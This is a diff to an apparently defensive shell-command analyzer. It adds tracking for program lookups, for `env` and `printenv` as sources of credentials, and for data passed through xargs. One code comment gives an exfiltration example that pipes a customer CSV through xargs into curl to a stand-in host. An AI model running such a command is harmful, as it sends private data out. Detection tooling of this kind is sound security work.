@@ -40,6 +40,7 @@ def _wrapped(call: _Call) -> None:
         parsed.options.extend(after.options)
         rest = after.operands
     if parsed.has(*spec.lookup_only):
+        _looked_up(call, rest)
         return
     for script in parsed.values(*spec.script_options):
         _script(call, script, f"{call.prog} -c")
@@ -51,6 +52,26 @@ def _wrapped(call: _Call) -> None:
         call.analyzer.run_inner(call, rest, feed=call.feed, transparent=True)
     elif parsed.has(*spec.shell_options) and call.feed is not None:
         _stdin_program(call, shell=True)
+    elif call.prog == "env" and not parsed.has(*spec.script_options):
+        _environment(call)
+
+
+def _looked_up(call: _Call, names: Sequence[_Word]) -> None:
+    """`command -v psql`, `which psql`: prints where the program is; `X=$(command -v psql);
+    "$X" ...` runs that program (its name stands for the path)."""
+    if len(names) == 1 and not names[0].dynamic and "/" not in names[0].value:
+        call.stdout = _Feed(_Origin.NONE, call.prog, _Word.literal(names[0].value + "\n"))
+
+
+def _which(call: _Call) -> None:
+    _looked_up(call, _parse(call.args).operands)
+
+
+def _environment(call: _Call) -> None:
+    """`env`, `printenv`: every variable, with the credentials a task is given (the bytes of
+    /proc/self/environ); `printenv NAME` prints one value, as any program's output."""
+    if call.prog == "env" or not _parse(call.args).operands:
+        call.stdout = _Feed(_Origin.FILE, f"the environment ({call.prog})")
 
 
 def _su(call: _Call) -> None:
@@ -76,22 +97,35 @@ def _xargs(call: _Call) -> None:
         call.args, values, attached_only=_options("-e", "-i", "-l"), first_operand_ends=True
     )
     inner = parsed.operands or [_Word.literal("echo")]
+    # The words xargs places come from stdin: where those bytes come from goes with them
+    # (`cat customers.csv | xargs -I{} curl "https://x/?d={}"` sends the file).
+    origin = call.feed.origin if call.feed else _Origin.NONE
+    source = call.feed.description if call.feed else ""
     for replace_string in parsed.values("-I") + [
         w.tail(2) for w in call.args if w.value.startswith("-I") and len(w.value) > 2
     ]:
         marker = replace_string.value
         inner = [
-            _Word(EXPANSION_PLACEHOLDER, word.display, dynamic=True, expansions=("{xargs input}",))
+            _Word(
+                word.value.replace(marker, EXPANSION_PLACEHOLDER),
+                word.display,
+                dynamic=True,
+                origin=origin,
+                source=source,
+                expansions=("{xargs input}",),
+            )
             if marker and marker in word.value
             else word
             for word in inner
         ]
-    # The words xargs appends come from stdin: unknown, and possibly many.
+    # The words xargs appends: unknown, and possibly many.
     appended = _Word(
         EXPANSION_PLACEHOLDER,
         "{xargs input}",
         dynamic=True,
         glob=True,
+        origin=origin,
+        source=source,
         expansions=("{xargs input}",),
     )
     call.analyzer.run_inner(call, [*inner, appended], feed=None, transparent=True)
